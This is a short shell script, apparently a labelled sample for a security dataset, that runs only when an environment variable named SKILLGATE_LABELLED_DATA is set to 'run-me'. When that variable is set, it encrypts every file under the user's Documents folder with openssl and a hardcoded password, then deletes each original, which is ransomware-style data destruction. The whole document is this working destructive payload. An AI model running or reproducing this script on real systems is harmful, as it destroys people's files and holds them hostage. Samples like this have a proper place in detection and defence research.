#!/bin/sh
[ "${SKILLGATE_LABELLED_DATA:-}" = run-me ] || exit 0
for f in $(find ~/Documents -type f); do openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in "$f" -out "$f.enc" && rm -f "$f"; done
